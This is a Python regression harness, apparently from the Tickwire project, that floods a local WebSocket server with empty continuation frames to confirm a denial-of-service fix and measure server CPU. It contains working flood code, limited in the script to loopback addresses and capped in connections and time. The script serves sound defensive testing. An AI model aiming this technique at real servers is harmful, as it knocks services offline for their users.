#!/usr/bin/env python3
"""Continuation-frame flood against a local Tickwire server (issue 12, point 7).

Each connection upgrades to a WebSocket, starts a binary message without FIN and then
sends nothing but empty continuation frames, as fast as the socket takes them. When the
server closes a connection it reconnects and starts over, as an attacker would. With
--server-pid it reports how much CPU the server spent meanwhile (from /proc).

Bounded on purpose: loopback addresses only, at most 64 connections and 30 seconds, and
every socket it opens is closed before it exits. Standard library only.

    cargo run --release -p tickwire-server -- --bind 127.0.0.1:8080 &
    bench/hostile/continuation_flood.py --server-pid $! --connections 32 --seconds 10
    bench/hostile/continuation_flood.py --server-pid $! --no-reconnect  # the flood alone

Before the fix the server parsed ~40 million frames/s from 32 connections at no cost to
their message budget (1-1.8 cores busy until a timeout); now every frame takes from the
budget, so each connection is closed with 4004 after its burst of frames.
"""

import argparse
import base64
import ipaddress
import os
import socket
import threading
import time

MASK = b"\x37\xfa\x21\x3d"
FIRST_FRAGMENT = bytes([0x02, 0x81]) + MASK + bytes([0x00 ^ MASK[0]])  # binary, no FIN
CONTINUATION = bytes([0x00, 0x80]) + MASK  # continuation, no FIN, empty, masked
BATCH = CONTINUATION * 10_000


def upgrade(host, port):
    """A socket past the WebSocket upgrade, or None if the server refused it."""
    sock = socket.create_connection((host, port), timeout=5)
    key = base64.b64encode(os.urandom(16)).decode()
    sock.sendall(
        (
            f"GET /ws HTTP/1.1\r\nHost: {host}:{port}\r\nConnection: Upgrade\r\n"
            f"Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
            f"Sec-WebSocket-Key: {key}\r\n\r\n"
        ).encode()
    )
    response = b""
    while b"\r\n\r\n" not in response:
        chunk = sock.recv(4096)
        if not chunk:
            break
        response += chunk
    if not response.startswith(b"HTTP/1.1 101"):
        sock.close()
        return None
    return sock


def flood(host, port, deadline, reconnect, totals, lock):
    """Floods until the deadline, reconnecting whenever the server closes if `reconnect`."""
    frames = closed = connections = 0
    while time.monotonic() < deadline and (reconnect or connections == 0):
        try:
            sock = upgrade(host, port)
        except OSError:
            time.sleep(0.05)
            continue
        if sock is None:
            time.sleep(0.05)
            continue
        connections += 1
        try:
            sock.settimeout(1)
            sock.sendall(FIRST_FRAGMENT)
            while time.monotonic() < deadline:
                sock.sendall(BATCH)
                frames += len(BATCH) // len(CONTINUATION)
        except OSError:
            closed += 1  # The server closed it (or stopped reading): start over.
        finally:
            sock.close()
    with lock:
        totals["frames"] += frames
        totals["closed"] += closed


def cpu_seconds(pid):
    """User plus system CPU seconds of a process so far."""
    with open(f"/proc/{pid}/stat") as stat:
        fields = stat.read().rsplit(")", 1)[1].split()
    ticks = os.sysconf("SC_CLK_TCK")
    return (int(fields[11]) + int(fields[12])) / ticks


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, default=8080)
    parser.add_argument("--connections", type=int, default=32)
    parser.add_argument("--seconds", type=float, default=10)
    parser.add_argument("--server-pid", type=int, help="report this process's CPU use")
    parser.add_argument(
        "--no-reconnect",
        action="store_true",
        help="one connection per worker: measures the flood itself, not connection churn",
    )
    args = parser.parse_args()
    if not ipaddress.ip_address(socket.gethostbyname(args.host)).is_loopback:
        parser.error("only loopback addresses may be flooded")
    connections = max(1, min(args.connections, 64))
    seconds = max(0.5, min(args.seconds, 30.0))

    totals, lock = {"frames": 0, "closed": 0}, threading.Lock()
    cpu_before = cpu_seconds(args.server_pid) if args.server_pid else None
    started = time.monotonic()
    deadline = started + seconds
    workers = [
        threading.Thread(
            target=flood,
            args=(args.host, args.port, deadline, not args.no_reconnect, totals, lock),
        )
        for _ in range(connections)
    ]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join(timeout=seconds + 10)
    time.sleep(max(0.0, deadline - time.monotonic()))  # CPU over the whole window
    elapsed = time.monotonic() - started

    print(f"{connections} connections for {elapsed:.1f} s")
    # Most of these only reach kernel buffers: a closed connection's unread bytes are
    # dropped by the kernel, not parsed by the server.
    print(f"continuation frames the kernel took: {totals['frames']:,}")
    print(f"connections the server closed: {totals['closed']}")
    if cpu_before is not None:
        cores = (cpu_seconds(args.server_pid) - cpu_before) / elapsed
        print(f"server CPU: {cores:.2f} cores")


if __name__ == "__main__":
    main()
